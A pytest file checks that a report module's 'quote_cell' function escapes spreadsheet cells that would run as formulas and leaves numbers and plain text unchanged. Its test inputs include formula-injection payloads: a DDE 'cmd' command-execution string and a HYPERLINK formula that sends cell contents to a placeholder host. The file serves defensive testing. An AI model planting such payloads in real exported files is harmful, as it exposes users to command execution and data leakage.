"""What a spreadsheet would run is quoted; numbers and plain text stay as they are."""

from __future__ import annotations

import pytest

from kd_lightning.results.report.cells import quote_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+cmd",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\uff1d1+1",
        '=HYPERLINK("http://x/?"&A1)',
        "-",
        "--1",
    ],
)
def test_what_would_run_is_quoted(text: str) -> None:
    assert quote_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-0.5", "+1e-3", "-inf", "lstm_lm", "a=b", "", "1,2", -0.5, 3, None, True])
def test_what_is_harmless_stays(value: object) -> None:
    assert quote_cell(value) is value
